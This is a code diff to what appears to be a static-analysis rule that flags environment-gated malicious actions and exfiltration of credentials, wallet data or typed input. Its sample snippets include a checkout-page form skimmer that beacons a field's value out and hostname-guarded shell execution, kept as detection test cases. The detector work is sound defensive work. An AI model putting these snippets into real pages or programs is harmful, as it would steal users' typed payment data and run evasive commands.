@@ -1,8 +1,12 @@
-import { defineRule, step } from '../src/define.js';
-import type { Guard } from '../src/types.js';
+import { beacons, defineRule, outgoing, step } from '../src/define.js';
+import type { AnyNode, FileContext, Guard, LabelKind } from '../src/types.js';
 
 /** What an attacker asks before acting; asking for the platform alone is everyday. */
 const TELLING: ReadonlySet<Guard['kind']> = new Set(['locale', 'host', 'date', 'ci']);
+
+/** Origins of what nobody sends by the way. */
+const STOLEN: ReadonlySet<LabelKind> = new Set(['credentials', 'browser', 'wallet', 'key-material']);
+const TYPED: ReadonlySet<string> = new Set(['form fields', 'keystrokes']);
 
 export default defineRule({
   meta: {
@@ -20,6 +24,10 @@ export default defineRule({
         code: `if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Somewhere') require('child_process').exec(command);`,
       },
       {
+        title: 'what is typed leaves one page only',
+        code: `if (location.pathname === '/checkout')\n  document.forms[0].addEventListener('submit', () => navigator.sendBeacon(address, document.forms[0].elements[0].value));`,
+      },
+      {
         title: 'it returns early on a host',
         code: `const os = require('os');\nfunction go() {\n  if (os.hostname() === 'analyst') return;\n  require('child_process').execSync(command);\n}`,
       },
@@ -29,16 +37,17 @@ export default defineRule({
         title: 'a program is chosen by platform',
         code: `if (process.platform === 'win32') require('child_process').spawn('cmd', ['/c', 'dir']);`,
       },
+      {
+        title: 'a page of its own site reports that it was seen',
+        code: `if (location.hostname !== 'localhost') navigator.sendBeacon('/seen', document.title);`,
+      },
       { title: 'a debug flag prints', code: `if (process.env.DEBUG) console.log('debug');` },
     ],
   },
   file(context) {
     let reported = 0;
-    for (const call of context.calls('execution', 'process')) {
-      const [first] = call.args;
-      if (!first || reported >= 3) continue;
-      // A timer runs a function, and loading a module is no action of its own.
-      if (/^set(?:Timeout|Interval|Immediate)$/.test(call.name) || call.name === 'import') continue;
+    for (const call of actions(context)) {
+      if (reported >= 3) break;
       const guards = context.guardsOf(call.node).filter(({ kind }) => TELLING.has(kind));
       const [guard] = guards;
       if (!guard) continue;
@@ -54,3 +63,18 @@ export default defineRule({
     }
   },
 });
+
+/** Calls that run something, and whatever sends what is not the program's to send. */
+function actions(context: FileContext): readonly { readonly name: string; readonly node: AnyNode }[] {
+  // A timer runs a function, and loading a module is no action of its own.
+  const running = context
+    .calls('execution', 'process')
+    .filter(({ name, args }) => args[0] && !/^set(?:Timeout|Interval|Immediate)$/.test(name) && name !== 'import');
+  const sending = outgoing(context)
+    .filter(({ labels }) => labels.some(({ kind, detail }) => STOLEN.has(kind) || TYPED.has(detail)))
+    .map(({ call }) => call);
+  const loading = beacons(context).filter(({ value }) =>
+    context.labelsOf(value).some(({ detail }) => TYPED.has(detail)),
+  );
+  return [...running, ...sending, ...loading];
+}
